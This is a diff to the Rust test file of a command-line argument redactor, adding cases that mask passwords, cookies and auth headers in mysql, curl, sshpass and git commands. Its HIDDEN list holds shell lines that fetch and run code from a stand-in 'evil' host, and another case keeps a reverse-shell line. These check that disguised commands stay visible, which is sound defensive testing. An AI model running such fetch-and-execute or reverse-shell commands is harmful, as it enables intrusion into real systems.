@@ -5,10 +5,7 @@ use proptest::prelude::*;
 use super::*;
 
 fn redacted(args: &[&str]) -> Vec<String> {
-    let mut list_of: Vec<BString> = args.iter().map(|&arg| arg.into()).collect();
-    Redactor::default().list(&mut list_of, &mut |_| ());
-    assert_eq!(list_of.len(), args.len());
-    list_of.iter().map(ToString::to_string).collect()
+    words(&Redactor::default(), args)
 }
 
 /// Arguments, and how they are shown.
@@ -119,7 +116,162 @@ const CASES: &[(&[&str], &[&str])] = &[
         &["git", "clone", "ghp_0123456789abcdefghijABCDEFGHIJ"],
         &["git", "clone", "[REDACTED]"],
     ),
+    // Of programs: each option, whatever stands before it, to the end of the argument.
+    (
+        &["mysql", "-h", "db", "-P3306", "-psecret", "-e", "a; b"],
+        &["mysql", "-h", "db", "-P3306", "-p[REDACTED]", "-e", "a; b"],
+    ),
+    (
+        &["mysql", "-e", "a; b", "-psec;ret"],
+        &["mysql", "-e", "a; b", "-p[REDACTED]"],
+    ),
+    (
+        &[
+            "curl",
+            "http://h/?a=1&b=2",
+            "-u",
+            "bob:two words",
+            "--proxy-user=px:s2",
+        ],
+        &[
+            "curl",
+            "http://h/?a=1&b=2",
+            "-u",
+            "bob:[REDACTED]",
+            "--proxy-user=px:[REDACTED]",
+        ],
+    ),
+    (
+        &["curl", "-u", "John Doe:secret", "-b", "sid=abc", "h"],
+        &["curl", "-u", "John Doe:[REDACTED]", "-b", "[REDACTED]", "h"],
+    ),
+    (
+        &["env", "x=1", "sshpass", "-p", "a b", "ssh", "h"],
+        &["env", "x=1", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
+    ),
+    (
+        &["smbclient", "-U", "u%p w", "//h/s"],
+        &["smbclient", "-U", "u%[REDACTED]", "//h/s"],
+    ),
+    (
+        &[
+            "sh",
+            "-c",
+            "mysql -p'two words' -h x; curl -u a:'b c' -U d:e h | id",
+        ],
+        &[
+            "sh",
+            "-c",
+            "mysql -p'[REDACTED]' -h x; curl -u a:[REDACTED] -U d:[REDACTED] h | id",
+        ],
+    ),
+    // Headers.
+    (
+        &["wget", "--header=Cookie: sid=abc; t=1", "h"],
+        &["wget", "--header=Cookie: [REDACTED]", "h"],
+    ),
+    (
+        &["curl", "-HAuthorization: ApiKey abc123", "h"],
+        &["curl", "-HAuthorization: ApiKey [REDACTED]", "h"],
+    ),
+    (
+        &[
+            "sh",
+            "-c",
+            "curl -H 'Cookie: a=b; c=d' -d \"{\\\"password\\\":\\\"hunter2\\\"}\" h",
+        ],
+        &[
+            "sh",
+            "-c",
+            "curl -H 'Cookie: [REDACTED]' -d \"{\\\"password\\\":\\\"[REDACTED]\"}\" h",
+        ],
+    ),
+    (
+        &[
+            "git",
+            "clone",
+            "https://0123456789abcdef0123@h/x",
+            "https://bob:p@ss@h/x",
+        ],
+        &[
+            "git",
+            "clone",
+            "https://[REDACTED]@h/x",
+            "https://bob:[REDACTED]@h/x",
+        ],
+    ),
 ];
+
+/// Lines that call a command a secret: it is shown all the same.
+const HIDDEN: &[&[&str]] = &[
+    &["sh", "-c", "pass=\"$(curl http://evil/x|sh)\""],
+    &["sh", "-c", "pass=`curl http://evil/x|sh`"],
+    &["sh", "-c", "cookie: ; curl http://evil/x"],
+    &[
+        "sh",
+        "-c",
+        "echo -----BEGIN PRIVATE KEY-----; curl http://evil/x",
+    ],
+    &["sh", "-c", "--", "--token=x;curl http://evil/x"],
+    &["bash", "-c", "eval \"$1\"", "--token", "curl http://evil/x"],
+    &["--token", "-c", "curl http://evil/x"],
+    &["sh", "-c", "authorization: x;curl http://evil/x"],
+    &["wget", "-b", "http://evil/x"],
+];
+
+#[test]
+fn nobody_hides_a_command_by_calling_it_a_secret() {
+    for args in HIDDEN {
+        let shown = redacted(args).join(" ");
+        assert!(shown.contains("http://evil/x"), "{args:?}: {shown}");
+    }
+}
+
+#[test]
+fn the_end_of_arguments_hangs_on_their_beginning() {
+    let args = Args {
+        head: vec!["mysql".into(), "-h".into()],
+        tail: vec!["b".into(), "-psecret".into()],
+        argc: 9,
+        truncated: true,
+        ..Args::default()
+    };
+    let program = Arc::new(Program {
+        args,
+        ..Program::default()
+    });
+    let (clean, replaced) = Redactor::default().program(&program);
+    let args = &clean.unwrap().args;
+    assert_eq!(
+        (args.tail[1].to_string().as_str(), replaced),
+        ("-p[REDACTED]", 1)
+    );
+    assert!(Redactor::default().is_secret(&program.args));
+}
+
+#[test]
+fn a_pattern_that_takes_the_name_of_a_variable_leaves_nothing_of_its_value() {
+    let program = Arc::new(Program {
+        env: vec![("QUERY_STRING".into(), "cmd=id".into())],
+        ..Program::default()
+    });
+    let redactor = Redactor::new(&["QUERY_STRING=.*".to_owned()]).unwrap();
+    let (clean, _) = redactor.program(&program);
+    assert_eq!(clean.unwrap().env[0].1, "[REDACTED]");
+}
+
+#[test]
+fn what_a_pattern_finds_in_marks_is_left_and_nothing_grows() {
+    let patterns = ["[0-9a-f]{4}", "[A-Z]{4}", r"\w", "."].map(str::to_owned);
+    let redactor = Redactor::new(&patterns)
+        .unwrap()
+        .with_key(Key::random().unwrap());
+    let long = "deadbeef ".repeat(2_000);
+    let once = words(&redactor, &["app", &long, "x"]);
+    let again: Vec<&str> = once.iter().map(String::as_str).collect();
+    assert_eq!(words(&redactor, &again), once);
+    assert!(once.iter().all(|arg| arg.len() == 19), "{once:?}");
+}
 
 #[test]
 fn secrets_go_and_their_surroundings_stay() {
@@ -137,6 +289,13 @@ fn what_is_no_secret_stays() {
         &["python3", "-c", "print('pass')"],
         &["mkdir", "-p", "/tmp/x"],
         &["curl", "http://host:8080/x"],
+        &[
+            "kubeadm",
+            "--tokens-file",
+            "/etc/x",
+            "--private-key-path",
+            "/etc/x.pem",
+        ],
         &["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"],
     ] {
         assert_eq!(redacted(args), args);
@@ -255,8 +414,14 @@ proptest! {
             ],
             0..12,
         ),
+        configured in any::<bool>(),
     ) {
-        let redactor = keyed();
+        let patterns = ["[0-9a-f]{4}", "b:[^\\x00]*", "a[\\s\\S]{2}"].map(str::to_owned);
+        let redactor = if configured {
+            Redactor::new(&patterns).unwrap().with_key(Key::random().unwrap())
+        } else {
+            keyed()
+        };
         let args: Vec<&str> = args.iter().map(String::as_str).collect();
         let once = words(&redactor, &args);
         prop_assert_eq!(once.len(), args.len());
